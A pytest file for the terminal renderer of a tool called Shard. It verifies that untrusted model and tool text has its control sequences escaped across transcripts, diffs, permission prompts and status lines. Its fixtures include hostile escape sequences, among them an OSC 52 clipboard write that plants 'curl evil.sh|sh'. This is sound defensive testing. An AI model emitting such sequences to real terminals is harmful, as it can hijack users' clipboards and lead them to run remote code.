"""Issue 20 item 9: model and tool text printed by `shard run`/`demo`/`batch` is untrusted; its
control sequences are shown as escapes, while Shard's own colours still work."""

from __future__ import annotations

import asyncio
import io
import re

import pytest

from shard_core.contracts import PermissionPrompt
from shard_core.protocol.events import (
    ErrorEvent,
    MessageDeltaEvent,
    StatusEvent,
    ToolCallEvent,
    ToolResultEvent,
)
from shard_core.types import (
    DiffDescriptor,
    Hunk,
    KvDescriptor,
    KvPair,
    ProgressDescriptor,
    TextBlock,
    TextDescriptor,
    ToolCallBlock,
    ToolResult,
    TreeDescriptor,
    TreeNode,
)
from shard_kernel.terminal.bridge import TerminalBridge
from shard_kernel.terminal.escape import terminal_safe
from shard_kernel.terminal.render import TerminalRenderer

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # write "curl evil.sh|sh" to the clipboard
TITLE = "\x1b]0;owned\x1b\\"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
HOSTILE = f"a{OSC52}b{TITLE}c{CLEAR}d{C1_CSI}e\rf\x08g\u202eh\x00"
SHARD_SGR = re.compile(r"\x1b\[[0-9;]*m")


def _no_raw_controls(text: str) -> None:
    """Only Shard's own colour codes (SGR), newlines and tabs are left."""
    rest = SHARD_SGR.sub("", text)
    bad = [c for c in rest if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert bad == []
    assert "\u202e" not in rest


def test_item9_terminal_safe_escapes_every_control() -> None:
    assert terminal_safe(HOSTILE) == (
        "a\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07b\\x1b]0;owned\\x1b\\c\\x1b[2J\\x1b[Hd\\x9b31m"
        "e\\x0df\\x08g\\u202eh\\x00"
    )
    assert terminal_safe("line\r\nnext\ttab\n") == "line\nnext\ttab\n"


def _result_event(result: ToolResult) -> ToolResultEvent:
    return ToolResultEvent(
        agent_id="a", seq=1, ts=0.0, turn_id="t", tool_call_id="c", name="bash", entry_id="e",
        result=result,
    )  # fmt: skip


@pytest.mark.parametrize("color", [True, False])
def test_item9_the_transcript_shows_hostile_text_escaped(color: bool) -> None:
    out = io.StringIO()
    render = TerminalRenderer(out, color=color)
    render(
        MessageDeltaEvent(agent_id="a", seq=1, ts=0.0, turn_id="t", channel="text", delta=HOSTILE)
    )
    call = ToolCallBlock(id="c", name=f"bash{CLEAR}", input={"command": HOSTILE})
    render(ToolCallEvent(agent_id="a", seq=2, ts=0.0, turn_id="t", call=call, read_only=False))
    descriptors = [
        KvDescriptor(pairs=[KvPair(k=f"k{TITLE}", v=HOSTILE)]),
        TextDescriptor(text=HOSTILE, format="code"),
        DiffDescriptor(
            path=f"x{OSC52}.py",
            status="modified",
            hunks=[
                Hunk(
                    old_start=1,
                    old_lines=1,
                    new_start=1,
                    new_lines=1,
                    lines=[f" {HOSTILE}", f"+{HOSTILE}"],
                )
            ],
        ),
        TreeDescriptor(root=TreeNode(label=f"dir{CLEAR}", is_dir=True)),
        ProgressDescriptor(label=HOSTILE, current=1),
    ]
    result = ToolResult(content=[TextBlock(text=HOSTILE)], render=descriptors)
    render(_result_event(result))
    render(_result_event(ToolResult(content=[TextBlock(text=HOSTILE)])))
    render(ErrorEvent(agent_id="a", seq=3, ts=0.0, code="x", message=HOSTILE))
    render(
        StatusEvent(
            agent_id="a", seq=4, ts=0.0, status="idle", mode="build", model="m", message=HOSTILE
        )
    )
    text = out.getvalue()
    _no_raw_controls(text)
    assert "\\x1b]52;c;" in text
    assert "\\x9b31m" in text
    assert ("\x1b[" in text) is color  # Shard's own colours are still there


def test_item9_permission_prompts_show_hostile_text_escaped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = io.StringIO()
    bridge = TerminalBridge(out)
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    prompt = PermissionPrompt(
        request_id="r",
        read_only=False,
        tool="bash",
        input={"command": HOSTILE},
        prompt=f"Run {HOSTILE}?",
        suggested_rule=None,
    )
    answer = asyncio.run(bridge.ask_permission(prompt))
    asyncio.run(bridge.notify(HOSTILE, HOSTILE))
    assert answer.decision == "deny"
    _no_raw_controls(out.getvalue())
